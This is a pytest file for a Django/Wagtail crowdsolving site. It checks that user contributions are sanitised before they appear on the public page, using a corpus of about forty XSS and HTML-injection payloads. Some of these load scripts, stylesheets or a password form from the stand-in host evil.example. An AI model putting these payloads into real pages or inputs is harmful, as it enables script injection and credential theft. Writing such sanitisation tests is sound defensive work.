"""What hostile text becomes on its way from the form to the public page."""

import time
from html.parser import HTMLParser

import pytest
from django.test import Client

from tests.contributions.support import contribute_url, form_data
from tests.factories import ChallengeFactory
from wagtail_crowdsolving.contributions import actions
from wagtail_crowdsolving.contributions.models import Contribution
from wagtail_crowdsolving.text import LINK_SCHEMES, TAGS

pytestmark = pytest.mark.django_db

WORDS = "Des mots bien visibles autour. "
CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='javascript:alert(1)'>clic</a>",
    "<a href='jav&#x09;ascript:alert(1)'>clic</a>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password></form>",
    "</div></article></main><h1>Faux titre</h1>",
    "<p style='position:fixed;inset:0'>voile</p>",
    "<p id=contribute class=cs-notice>faux</p>",
    "<!-- commentaire --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[clic](javascript:alert(1))",
    "[clic](JaVaScRiPt:alert(1))",
    "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clic](vbscript:msgbox(1))",
    '[clic](https://example.org/"onmouseover="alert(1))',
    "[clic](<https://example.org/' onclick='alert(1)>)",
    "![image](https://evil.example/pixel.png)",
    "<https://example.org/<script>alert(1)</script>>",
    'https://example.org/?q="><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**gras <img src=x onerror=alert(1)>**",
    "# Titre\n\n<h1>Titre</h1>\n\n***",
    "{{ request.user.email }} {% load static %} {% url 'x' %}",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>",
    "\ufeff<script\u00a0>alert(1)</script\u00a0>",
]
HOSTILE_ATTRIBUTES = {"style", "id", "class", "src", "srcset", "srcdoc", "formaction", "action"}


class Body(HTMLParser):
    """The elements inside the body of the one contribution of a page."""

    def __init__(self):
        super().__init__()
        self.depth = 0
        self.elements = []
        self.text = ""
        self.everywhere = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.everywhere.append((tag, attrs))
        if self.depth:
            self.elements.append((tag, attrs))
            if tag == "div":
                self.depth += 1
        elif "cs-contribution__body" in (attrs.get("class") or ""):
            self.depth = 1

    def handle_endtag(self, tag):
        if self.depth and tag == "div":
            self.depth -= 1

    def handle_data(self, data):
        if self.depth:
            self.text += data


def parse(html):
    parser = Body()
    parser.feed(html)
    return parser


@pytest.fixture
def show(client, member, moderator, challenge):
    """Send through the form, have it validated, and read the public page."""

    def show(**typed):
        client.force_login(member)
        response = client.post(contribute_url(challenge), form_data(member, challenge, **typed))
        assert response.status_code == 302, response.context["form"].errors
        actions.approve(contribution=Contribution.objects.latest("pk"), by=moderator)
        return parse(Client().get(challenge.url).content.decode())

    return show


@pytest.mark.parametrize("hostile", CORPUS)
def test_nothing_executable_reaches_the_page(show, hostile):
    page = show(text=WORDS + hostile, place=hostile[:160].replace("\n", " "))
    assert WORDS.strip() in page.text
    for tag, attrs in page.elements:
        assert tag in TAGS
        assert not HOSTILE_ATTRIBUTES & set(attrs)
        assert not [name for name in attrs if name.startswith("on")]
        if "href" in attrs:
            assert attrs["href"].partition(":")[0].lower() in LINK_SCHEMES
            assert "nofollow" in attrs["rel"]
    for tag, attrs in page.everywhere:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert "evil.example" not in str(attrs.get("src")) + str(attrs.get("action"))
    assert [tag for tag, _attrs in page.everywhere].count("h1") == 1


@pytest.mark.parametrize("name", ["first_name", "last_name"])
def test_hostile_names(show, member, name):
    setattr(member, name, "<script>alert(1)</script>")
    member.save()
    page = show()
    assert ("script", {}) not in page.everywhere


def test_paragraphs_lists_and_links_survive(show):
    page = show(text="Un *deux* **trois**\n\n- quatre\n- cinq\n\n1. six\n\nhttps://example.org/a")
    tags = [tag for tag, _attrs in page.elements]
    assert {"p", "em", "strong", "ul", "ol", "li", "a"} <= set(tags)


@pytest.mark.parametrize(
    "pattern",
    ["[", "](", "**a ", "*", "_a", "> ", "- ", "<", "&", "\\", "![", "[a](", "`", "http://"],
)
def test_repeated_markup_takes_no_time(member, pattern):
    challenge = ChallengeFactory()
    text = WORDS + (pattern * 10000)[: 10000 - len(WORDS)].rstrip()
    start = time.perf_counter()
    client = Client()
    client.force_login(member)
    assert (
        client.post(contribute_url(challenge), form_data(member, challenge, text=text)).status_code
        == 302
    )
    assert time.perf_counter() - start < 3
